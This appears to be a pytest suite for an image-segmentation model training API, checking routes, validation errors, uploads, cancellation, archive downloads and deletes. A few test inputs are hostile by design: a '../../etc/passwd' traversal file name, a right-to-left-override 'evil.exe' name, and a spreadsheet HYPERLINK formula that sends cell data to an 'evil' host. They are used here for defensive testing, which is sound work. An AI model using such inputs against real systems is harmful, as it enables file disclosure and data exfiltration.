"""Every route and every error of the v1 API, in process, on the embedded SQLite setup.

Jobs are run with the worker's own functions in this process (no broker round trip);
the end-to-end tests cover the real worker processes.
"""

from __future__ import annotations

import hashlib
import io
import threading
import zipfile

import numpy as np
import pytest
from service_helpers import SMOKE, check_archive, embedded_client, finished_model, png_bytes, run_job, train_smoke, upload_files, wait_for

from app.db import NotMigrated
from app.orm import Archive, Generation, Worker
from app.schemas import MAX_SEED


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    """One embedded service for the module; tests use their own resources by id."""
    with embedded_client(tmp_path_factory.mktemp("api"), progress_interval=0.2) as client:
        yield client


@pytest.fixture(scope="module")
def pair(api, kvasir) -> dict:
    image, mask, name = kvasir(0)
    response = api.post("/v1/pairs", files=upload_files(image, mask, name))
    assert response.status_code == 201, response.text
    return response.json()


@pytest.fixture(scope="module")
def trained(api, pair) -> dict:
    return train_smoke(api, pair["id"])


def blob_files(client) -> list[str]:
    root = client.app.state.services.store.root
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


# --- health, startup, docs, auth ---------------------------------------------------------


def test_health_reports_each_component(api):
    body = api.get("/healthz").json()
    assert body["status"] == "ok" and body["mode"] == "embedded"
    assert body["database"]["ok"] and body["broker"]["ok"] and body["storage"]["ok"]
    assert body["broker"]["detail"].startswith("sqla+sqlite:///")
    assert body["style_transfer"]["ok"] is False
    assert body["style_transfer"]["detail"].startswith("VGG19WeightsError: style transfer needs torchvision's ImageNet VGG19 weights vgg19-dcbb9e9d.pth")
    assert "or set SINGAN_SEG_VGG19_WEIGHTS to its path" in body["style_transfer"]["detail"]
    assert body["gpu"]["ok"] is False


def test_health_lists_live_workers_and_weights(make_client, tmp_path):
    weights = tmp_path / "vgg19.pth"
    weights.write_bytes(b"weights")
    client = make_client(vgg19_weights=weights)
    with client.app.state.services.sessions() as session:
        session.add(Worker(id="gpu-box:1", device="cuda:0"))
        session.commit()
    body = client.get("/healthz").json()
    assert [w["id"] for w in body["workers"]] == ["gpu-box:1"]
    assert body["gpu"] == {"ok": True, "detail": "CUDA workers: gpu-box:1"}
    assert body["style_transfer"] == {"ok": True, "detail": f"VGG19 weights at {weights}"}


def test_health_is_503_when_the_broker_is_down(make_client):
    client = make_client(broker_url="redis://127.0.0.1:1/0")
    response = client.get("/healthz")
    assert response.status_code == 503
    assert response.json()["status"] == "degraded" and not response.json()["broker"]["ok"]


def test_app_refuses_an_unmigrated_database(tmp_path):
    from app.main import create_app
    from app.settings import Settings

    with pytest.raises(NotMigrated, match=r"schema revision none.*run `alembic upgrade head`"):
        create_app(Settings(data_dir=tmp_path))


def test_openapi_documents_every_route_with_examples(api):
    spec = api.get("/openapi.json").json()
    routes = {(method.upper(), path) for path, ops in spec["paths"].items() for method in ops}
    assert routes >= {
        ("GET", "/healthz"), ("POST", "/v1/pairs"), ("GET", "/v1/pairs"), ("GET", "/v1/pairs/{pair_id}"), ("DELETE", "/v1/pairs/{pair_id}"),
        ("POST", "/v1/models"), ("GET", "/v1/models"), ("GET", "/v1/models/{model_id}"), ("POST", "/v1/models/{model_id}/cancel"),
        ("DELETE", "/v1/models/{model_id}"), ("POST", "/v1/generations"), ("GET", "/v1/generations/{generation_id}"),
        ("GET", "/v1/generations/{generation_id}/archive"), ("HEAD", "/v1/generations/{generation_id}/archive"), ("POST", "/v1/generations/{generation_id}/cancel"),
        ("GET", "/v1/models/{model_id}/report"), ("GET", "/v1/models/{model_id}/report/figures/{name}"),
        ("GET", "/v1/generations/{generation_id}/report"), ("GET", "/v1/generations/{generation_id}/report/{model_id}/figures/{name}"),
    }
    schemas = spec["components"]["schemas"]
    assert schemas["ModelCreate"]["examples"] and schemas["GenerationCreate"]["examples"] and schemas["ReportOut"]["examples"]
    assert "application/zip" in spec["paths"]["/v1/generations/{generation_id}/archive"]["get"]["responses"]["200"]["content"]
    assert api.get("/docs").status_code == 200


def test_api_token_guards_v1_but_not_health(make_client):
    client = make_client(api_token="s3cret")
    assert client.get("/healthz").status_code == 200
    denied = client.get("/v1/pairs")
    assert denied.status_code == 401 and "API token" in denied.json()["detail"]
    assert client.get("/v1/pairs", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert client.get("/v1/pairs", headers={"Authorization": "Bearer s3cret"}).json() == []


# --- pairs -------------------------------------------------------------------------------


def test_upload_stores_the_pair_under_server_names(api, pair, kvasir):
    image, mask, name = kvasir(0)
    assert pair["name"] == name.rsplit(".", 1)[0]
    assert (pair["width"], pair["height"]) == (622, 529)
    assert pair["foreground_share"] == pytest.approx(0.2828, abs=1e-3)
    assert pair["content_sha256"] == hashlib.sha256(image + mask).hexdigest()
    assert (pair["image_bytes"], pair["mask_bytes"]) == (len(image), len(mask))
    store = api.app.state.services.store
    assert store.path(f"pairs/{pair['id']}/image").read_bytes() == image
    assert store.path(f"pairs/{pair['id']}/mask").read_bytes() == mask
    assert api.get(f"/v1/pairs/{pair['id']}").json() == pair
    assert pair["id"] in [p["id"] for p in api.get("/v1/pairs").json()]


def test_upload_takes_a_name_and_never_uses_client_file_names_as_paths(make_client, kvasir):
    client = make_client()
    image, mask, _ = kvasir(1)
    body = client.post("/v1/pairs", files=upload_files(image, mask, "../../etc/passwd.jpg"), data={"name": "polyp 7"}).json()
    assert body["name"] == "polyp 7"
    assert blob_files(client) == [f"pairs/{body['id']}/image", f"pairs/{body['id']}/mask"]


@pytest.mark.parametrize(
    "name, message",
    [
        ("a\nb", "name: Value error, must not contain control, line-break or invisible formatting characters (found U+000A)"),
        ("tab\there", "(found U+0009)"),
        ("bell\x07", "(found U+0007)"),
        ("\u202eevil.exe", "(found U+202E)"),  # right-to-left override: shows a different name
        ("line\u2028break", "(found U+2028)"),
        ("   ", "name: Value error, must not be empty or only whitespace"),
        ("", "name: must not be empty or only whitespace (leave the field out to use the image's file name)"),
        ("x" * 201, "name: String should have at most 200 characters"),
    ],
)
def test_bad_pair_name_is_422_and_stores_nothing(api, kvasir, name, message):
    before = (api.get("/v1/pairs").json(), blob_files(api))
    response = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2]), data={"name": name})
    assert response.status_code == 422 and message in response.json()["detail"]
    assert (api.get("/v1/pairs").json(), blob_files(api)) == before


@pytest.mark.parametrize("file_name", [".jpg", "   .jpg"])
def test_a_file_name_that_makes_no_name_is_422(api, kvasir, file_name):
    before = api.get("/v1/pairs").json()
    response = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2], name=file_name))
    assert response.status_code == 422
    assert response.json()["detail"] == "name: taken from the image's file name, which must not be empty or only whitespace; send a name"
    assert api.get("/v1/pairs").json() == before


def test_pair_names_are_kept_as_given_up_to_200_characters(make_client, kvasir):
    """Spreadsheet formulas are fine as names (the manifest neutralises them), and so is any script."""
    client = make_client()
    for name in ('=HYPERLINK("http://evil/"&A1)', "Polyp №7 – ñ 息肉", "é" * 200):
        response = client.post("/v1/pairs", files=upload_files(*kvasir(1)[:2]), data={"name": name})
        assert response.status_code == 201 and response.json()["name"] == name


def _bad_uploads(kvasir):
    image, mask, _ = kvasir(0)
    other_image, other_mask, _ = kvasir(1)
    tiny = np.zeros((20, 20), np.uint8)
    tiny[5:10, 5:10] = 255
    return {
        "size mismatch": (upload_files(image, other_mask), 422, "image and mask sizes differ: image is 622x529, mask is 1348x1070"),
        "unreadable image": (upload_files(b"not an image at all", mask), 422, "image: not a readable image"),
        "truncated mask": (upload_files(image, mask[: len(mask) // 3]), 422, "mask: image data is truncated or corrupt"),
        "empty mask": (upload_files(image, png_bytes(np.zeros((529, 622), np.uint8))), 422, "mask: mask is empty"),
        "too small": (upload_files(png_bytes(np.stack([tiny] * 3, axis=2)), png_bytes(tiny)), 422, "image is too small for a pyramid: 20x20"),
        "missing mask": ({"image": ("a.jpg", image)}, 422, "mask: Field required"),
    }


@pytest.mark.parametrize("case", ["size mismatch", "unreadable image", "truncated mask", "empty mask", "too small", "missing mask"])
def test_bad_upload_is_422_naming_the_problem_and_stores_nothing(make_client, kvasir, case):
    client = make_client()
    files, status, message = _bad_uploads(kvasir)[case]
    response = client.post("/v1/pairs", files=files)
    assert response.status_code == status
    assert message in response.json()["detail"]
    assert client.get("/v1/pairs").json() == [] and blob_files(client) == []


def test_too_many_pixels_is_413(make_client, kvasir):
    client = make_client(max_pixels=100_000)
    response = client.post("/v1/pairs", files=upload_files(*kvasir(0)[:2]))
    assert response.status_code == 413
    assert "622x529 = 329038 pixels exceeds the limit of 100000 pixels" in response.json()["detail"]
    assert client.get("/v1/pairs").json() == [] and blob_files(client) == []


def test_upload_size_is_limited_while_streaming(make_client, kvasir):
    client = make_client(max_upload_bytes=40_000)
    image, mask, _ = kvasir(0)  # 51 kB + 15 kB
    declared = client.post("/v1/pairs", files=upload_files(image, mask))
    assert declared.status_code == 413
    assert declared.json()["detail"] == "request body is larger than the upload limit of 40000 bytes"
    streamed_chunks = []

    def body():  # no Content-Length: the limit must cut the stream off
        for i in range(0, 200_000, 10_000):
            streamed_chunks.append(i)
            yield b"-" * 10_000

    streamed = client.post("/v1/pairs", content=body(), headers={"content-type": "multipart/form-data; boundary=x"})
    assert streamed.status_code == 413 and "upload limit of 40000 bytes" in streamed.json()["detail"]
    assert client.get("/v1/pairs").json() == [] and blob_files(client) == []


def test_unknown_ids_are_404(api):
    for path in ("/v1/pairs/nope", "/v1/models/nope", "/v1/generations/nope", "/v1/generations/nope/archive"):
        response = api.get(path)
        assert response.status_code == 404 and "unknown" in response.json()["detail"] and "nope" in response.json()["detail"]
    assert api.delete("/v1/pairs/nope").status_code == 404
    assert api.post("/v1/models/nope/cancel").status_code == 404


# --- models ------------------------------------------------------------------------------


def test_create_model_is_queued_with_status_from_the_database(api, pair):
    response = api.post("/v1/models", json={"pair_id": pair["id"], "preset": "smoke", "overrides": {"niter": 5, "seed": 2}})
    assert response.status_code == 202
    model = response.json()
    assert model["status"] == "queued" and model["progress"] is None and model["runs"] == []
    assert model["overrides"] == {"niter": 5, "seed": 2}
    assert api.get(f"/v1/models/{model['id']}").json()["status"] == "queued"
    assert model["id"] in [m["id"] for m in api.get("/v1/models", params={"status": "queued", "pair_id": pair["id"]}).json()]
    api.post(f"/v1/models/{model['id']}/cancel")


@pytest.mark.parametrize(
    "body, status, message",
    [
        ({"pair_id": "nope"}, 404, "unknown pair id nope"),
        ({"preset": "huge"}, 422, "preset: Input should be 'paper', 'fast' or 'smoke'"),
        ({"overrides": {"nitr": 3}}, 422, "overrides.nitr: Extra inputs are not permitted"),
        ({"overrides": {"niter": 0}}, 422, "overrides.niter: Input should be greater than or equal to 1"),
        ({"overrides": {"seed": 2**63}}, 422, "overrides.seed: Input should be less than or equal to 9223372036854775807"),
        ({"overrides": {"seed": -1}}, 422, "overrides.seed: Input should be greater than or equal to 0"),
        ({"overrides": {"min_size": 200, "max_size": 100}}, 422, "need 10 <= min_size < max_size"),
        ({"overrides": {"min_size": 90, "max_size": 100}}, 422, "image is too small for a pyramid"),
    ],
)
def test_bad_model_request_is_rejected_and_stores_nothing(api, pair, body, status, message):
    before = api.get("/v1/models").json()
    response = api.post("/v1/models", json={"pair_id": pair["id"], **body})
    assert response.status_code == status and message in response.json()["detail"]
    assert api.get("/v1/models").json() == before


def test_broker_down_is_503_and_stores_nothing(make_client, kvasir):
    client = make_client(broker_url="redis://127.0.0.1:1/0")
    pair = client.post("/v1/pairs", files=upload_files(*kvasir(0)[:2])).json()
    response = client.post("/v1/models", json={"pair_id": pair["id"], **SMOKE})
    assert response.status_code == 503 and "broker" in response.json()["detail"]
    assert client.get("/v1/models").json() == []


def test_cancel_queued_then_finished_is_409(api, pair):
    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE}).json()
    cancelled = api.post(f"/v1/models/{model['id']}/cancel").json()
    assert cancelled["status"] == "cancelled" and cancelled["cancel_requested"] and cancelled["finished_at"]
    again = api.post(f"/v1/models/{model['id']}/cancel")
    assert again.status_code == 409 and "already cancelled" in again.json()["detail"]


def test_cancel_running_training_stops_within_seconds(api, pair):
    model = api.post("/v1/models", json={"pair_id": pair["id"], "preset": "smoke", "overrides": {"niter": 500}}).json()
    path = f"/v1/models/{model['id']}"
    worker = threading.Thread(target=run_job, args=(api, "model", model["id"]))
    worker.start()
    wait_for(lambda: (api.get(path).json()["progress"] or {}).get("iteration", 0) >= 1, 60, "training progress")
    assert api.post(f"{path}/cancel").json()["status"] == "running"
    worker.join(30)  # seconds on an idle machine; generous for a loaded 2-core CI box
    assert not worker.is_alive(), "training did not stop within 30 s of the cancel"
    final = api.get(path).json()
    assert final["status"] == "cancelled" and final["progress"]["fraction"] < 1


def test_training_succeeds_with_progress_metrics_and_checkpoint(api, trained):
    assert trained["status"] == "succeeded" and trained["error"] is None
    assert trained["num_scales"] == 4 and trained["progress"]["fraction"] == 1.0
    assert trained["progress"]["scales"] == 4 and trained["progress"]["iterations"] == 1
    assert len(trained["metrics"]["scales"]) == 4 and trained["metrics"]["output_size"] == {"width": 49, "height": 41}
    assert [r["start_scale"] for r in trained["runs"]] == [0]
    assert trained["started_at"] <= trained["finished_at"]
    from models import read_manifest

    manifest = read_manifest(api.app.state.services.store.path(f"models/{trained['id']}"))
    assert len(manifest["scales"]) == 4


def test_failed_training_carries_a_readable_error(api, pair):
    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE}).json()
    api.app.state.services.store.path(f"pairs/{pair['id']}/mask").rename(api.app.state.services.store.path("pairs/moved"))
    try:
        run_job(api, "model", model["id"])
    finally:
        api.app.state.services.store.path("pairs/moved").rename(api.app.state.services.store.path(f"pairs/{pair['id']}/mask"))
    failed = api.get(f"/v1/models/{model['id']}").json()
    assert failed["status"] == "failed"
    assert failed["error"].startswith("InputError: ") and "(mask): file not found" in failed["error"]
    assert api.delete(f"/v1/models/{model['id']}").status_code == 204


def test_delete_active_model_is_409(api, pair):
    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE}).json()
    response = api.delete(f"/v1/models/{model['id']}")
    assert response.status_code == 409 and "cancel them first" in response.json()["detail"]
    api.post(f"/v1/models/{model['id']}/cancel")


# --- generations -------------------------------------------------------------------------


def test_generation_archive_end_to_end(api, trained):
    response = api.post("/v1/generations", json={"model_ids": [trained["id"]], "samples_per_model": 3, "seed": 7})
    assert response.status_code == 202
    generation = response.json()
    assert generation["status"] == "queued" and generation["archive"] is None
    not_ready = api.get(f"/v1/generations/{generation['id']}/archive")
    assert not_ready.status_code == 409 and "queued" in not_ready.json()["detail"]
    run_job(api, "generation", generation["id"])
    done = api.get(f"/v1/generations/{generation['id']}").json()
    assert done["status"] == "succeeded" and done["progress"] == {"stage": None, "samples": 3, "total": 3, "fraction": 1.0}
    archive = api.get(f"/v1/generations/{generation['id']}/archive")
    assert archive.status_code == 200 and archive.headers["content-type"] == "application/zip"
    assert len(archive.content) == done["archive"]["size_bytes"] and hashlib.sha256(archive.content).hexdigest() == done["archive"]["sha256"]
    rows = check_archive(archive.content, 3, [trained["id"]], seed=7)
    assert {r["pair_name"] for r in rows} == {"cju0qkwl35piu0993l0dewei2"} and sorted(r["sample_index"] for r in rows) == ["0", "1", "2"]
    ranged = api.get(f"/v1/generations/{generation['id']}/archive", headers={"Range": "bytes=0-3"})
    assert ranged.status_code == 206 and ranged.content == archive.content[:4] == b"PK\x03\x04"

    # Deleting the generation removes its archive; the next archive holds only its own pairs.
    assert api.delete(f"/v1/generations/{generation['id']}").status_code == 204
    assert not [f for f in blob_files(api) if generation["id"] in f]
    assert api.get(f"/v1/generations/{generation['id']}").status_code == 404
    again = api.post("/v1/generations", json={"model_ids": [trained["id"]], "samples_per_model": 2, "seed": 7}).json()
    run_job(api, "generation", again["id"])
    with zipfile.ZipFile(io.BytesIO(api.get(f"/v1/generations/{again['id']}/archive").content)) as zf:
        assert len([n for n in zf.namelist() if n.startswith("images/")]) == 2


def finished_generation(client, archive: bytes | None = None) -> str:
    """A succeeded generation row (with an archive of these bytes, if given) or a cancelled one,
    as a worker leaves it, without generating; returns its id."""
    with client.app.state.services.sessions() as session:
        generation = Generation(model_ids=[], samples_per_model=1, gen_start_scale=0, seed=0, status="succeeded" if archive else "cancelled")
        session.add(generation)
        session.flush()
        if archive is not None:
            key = f"generations/{generation.id}/archive.zip"
            path = client.app.state.services.store.path(key)
            path.parent.mkdir(parents=True)
            path.write_bytes(archive)
            session.add(Archive(generation_id=generation.id, blob_key=key, size_bytes=len(archive), sha256=hashlib.sha256(archive).hexdigest(), pairs=0))
        session.commit()
        return generation.id


def test_archive_head_gives_the_headers_of_get_without_a_body(api):
    content = bytes(range(256)) * 40
    path = f"/v1/generations/{finished_generation(api, content)}/archive"
    got, head = api.get(path), api.head(path)
    assert got.status_code == head.status_code == 200 and got.content == content and head.content == b""
    assert head.headers["content-length"] == str(len(content)) and head.headers["accept-ranges"] == "bytes"
    assert {k: head.headers[k] for k in ("content-type", "content-length", "etag", "last-modified", "content-disposition")} == {
        k: got.headers[k] for k in ("content-type", "content-length", "etag", "last-modified", "content-disposition")
    }
    ranged = api.head(path, headers={"Range": "bytes=10-19"})
    assert ranged.status_code == 206 and ranged.headers["content-range"] == f"bytes 10-19/{len(content)}" and ranged.content == b""
    assert api.head("/v1/generations/nope/archive").status_code == 404


@pytest.mark.parametrize("header", ["bytes=10-5", "bytes=abc", "bytes=", "pages=0-3", "0-3"])
def test_an_invalid_range_is_ignored(api, header):
    content = b"PK" + bytes(1000)
    response = api.get(f"/v1/generations/{finished_generation(api, content)}/archive", headers={"Range": header})
    assert response.status_code == 200 and response.content == content and "content-range" not in response.headers


def test_ranges_are_served_and_one_past_the_end_is_a_json_416(api):
    content = bytes(range(100))
    path = f"/v1/generations/{finished_generation(api, content)}/archive"
    tail = api.get(path, headers={"Range": "bytes=90-"})
    assert tail.status_code == 206 and tail.content == content[90:] and tail.headers["content-range"] == "bytes 90-99/100"
    for header in ("bytes=100-", "bytes=100-200", "bytes=5000-5001"):
        response = api.get(path, headers={"Range": header})
        assert response.status_code == 416 and response.headers["content-range"] == "bytes */100"
        assert response.headers["content-type"] == "application/json"
        assert response.json() == {"detail": "the requested range starts beyond the end of the file (100 bytes)"}


@pytest.mark.parametrize(
    "body, status, message",
    [
        ({"model_ids": []}, 422, "model_ids: List should have at least 1 item"),
        ({"model_ids": ["nope"]}, 404, "unknown model id nope"),
        ({"samples_per_model": 0}, 422, "samples_per_model: Input should be greater than or equal to 1"),
        ({"samples_per_model": 1001}, 422, "samples_per_model: at most 1000, got 1001"),
        ({"gen_start_scale": 4}, 422, "gen_start_scale: model"),
        ({"style_transfer": True}, 409, "style_transfer: style transfer needs torchvision's ImageNet VGG19 weights vgg19-dcbb9e9d.pth"),
        ({"colour": "red"}, 422, "colour: Extra inputs are not permitted"),
        ({"seed": 2**63}, 422, "seed: Input should be less than or equal to 9223372036854775807"),
        ({"seed": 1e26}, 422, "seed: Unable to parse input string as an integer, exceeded maximum size"),
    ],
)
def test_bad_generation_request_is_rejected_and_stores_nothing(api, trained, body, status, message):
    before = api.get("/v1/generations").json()
    response = api.post("/v1/generations", json={"model_ids": [trained["id"]], **body})
    assert response.status_code == status and message in response.json()["detail"]
    assert api.get("/v1/generations").json() == before


def test_the_largest_seed_is_accepted_and_kept(api, pair, trained):
    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE, "overrides": {"seed": MAX_SEED}})
    generation = api.post("/v1/generations", json={"model_ids": [trained["id"]], "seed": MAX_SEED})
    assert model.status_code == 202 and generation.status_code == 202
    assert api.get(f"/v1/models/{model.json()['id']}").json()["overrides"] == {"seed": MAX_SEED}
    assert api.get(f"/v1/generations/{generation.json()['id']}").json()["seed"] == MAX_SEED == 2**63 - 1
    api.post(f"/v1/models/{model.json()['id']}/cancel")
    api.post(f"/v1/generations/{generation.json()['id']}/cancel")


def test_generating_from_an_unfinished_model_is_409(api, pair):
    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE}).json()
    response = api.post("/v1/generations", json={"model_ids": [model["id"]]})
    assert response.status_code == 409 and "is queued; only succeeded models can generate" in response.json()["detail"]
    api.post(f"/v1/models/{model['id']}/cancel")


def test_style_transfer_with_missing_weights_file_is_409(make_client, kvasir, tmp_path):
    client = make_client(vgg19_weights=tmp_path / "missing.pth")
    pair = client.post("/v1/pairs", files=upload_files(*kvasir(0)[:2])).json()
    response = client.post("/v1/generations", json={"model_ids": [finished_model(client, pair["id"])], "style_transfer": True})
    assert response.status_code == 409
    assert response.json()["detail"].startswith(f"style_transfer: VGG19 weight file {tmp_path / 'missing.pth'} does not exist; it should be torchvision's vgg19-dcbb9e9d.pth")
    assert client.get("/v1/generations").json() == []


# --- deleting pairs ----------------------------------------------------------------------


def test_delete_pair_refuses_with_models_and_cascades_on_request(api, kvasir):
    pair = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2])).json()
    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE}).json()
    api.post(f"/v1/models/{model['id']}/cancel")
    api.app.state.services.store.path(f"models/{model['id']}").mkdir(parents=True)  # as a partial checkpoint
    refused = api.delete(f"/v1/pairs/{pair['id']}")
    assert refused.status_code == 409 and model["id"] in refused.json()["detail"] and "cascade=true" in refused.json()["detail"]
    assert api.delete(f"/v1/pairs/{pair['id']}", params={"cascade": True}).status_code == 204
    assert api.get(f"/v1/pairs/{pair['id']}").status_code == 404 and api.get(f"/v1/models/{model['id']}").status_code == 404
    assert not [f for f in blob_files(api) if pair["id"] in f or model["id"] in f]
    assert not api.app.state.services.store.path(f"models/{model['id']}").exists()


@pytest.mark.parametrize("kind", ["models", "pairs", "generations"])
def test_concurrent_deletes_of_one_resource_give_one_204(api, kvasir, kind):
    """Each round, several threads delete the same resource at once: one 204, the rest 404."""
    for _ in range(3):
        if kind == "generations":
            resource_id = finished_generation(api)
        else:
            pair_id = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2])).json()["id"]
            resource_id = finished_model(api, pair_id) if kind == "models" else pair_id
        barrier = threading.Barrier(6)
        statuses: list[int] = []

        def delete():
            barrier.wait()
            statuses.append(api.delete(f"/v1/{kind}/{resource_id}").status_code)

        threads = [threading.Thread(target=delete) for _ in range(barrier.parties)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        assert sorted(statuses) == [204] + [404] * 5
        assert api.get(f"/v1/{kind}/{resource_id}").status_code == 404
